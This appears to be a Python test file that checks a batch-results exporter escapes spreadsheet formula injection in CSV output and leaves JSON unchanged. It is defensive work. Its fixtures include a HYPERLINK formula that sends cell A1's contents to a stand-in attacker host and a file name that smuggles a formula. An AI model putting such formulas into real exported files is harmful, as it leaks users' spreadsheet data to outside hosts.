"""A batch's results as tables and lines of JSON."""

from __future__ import annotations

import csv
import json
from io import StringIO

from classifier.batch_results import BatchResult
from classifier.presentation import PredictionItem
from webapp.management.batch_output import open_output

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open me")'
ANSWER = PredictionItem(
    id="1",
    state="done",
    label=FORMULA,
    confidence=0.5,
    unsure=False,
    unfamiliar=False,
    scores=[{"label": FORMULA, "score": 0.5}],
    model={"id": "2", "version": 1},
    failure=None,
    queued_at="2026-01-01T00:00:00Z",
    done_at="2026-01-01T00:00:01Z",
)
RESULT = BatchResult(place="@SUM(A1).png", state="done", image_id="3", prediction=ANSWER)


def test_asvs_v1_2_10_a_formula_is_text_in_csv() -> None:
    out = StringIO()
    with open_output(json_file=None, csv_file="-", stdout=out) as write:
        write([RESULT])
    (row,) = csv.DictReader(StringIO(out.getvalue()))
    assert (row["place"], row["label"]) == ("'@SUM(A1).png", f"'{FORMULA}")


def test_json_is_exact() -> None:
    out = StringIO()
    with open_output(json_file="-", csv_file=None, stdout=out) as write:
        write([RESULT])
    line = json.loads(out.getvalue())
    assert (line["place"], line["label"], line["scores"][0]["label"]) == ("@SUM(A1).png", FORMULA, FORMULA)
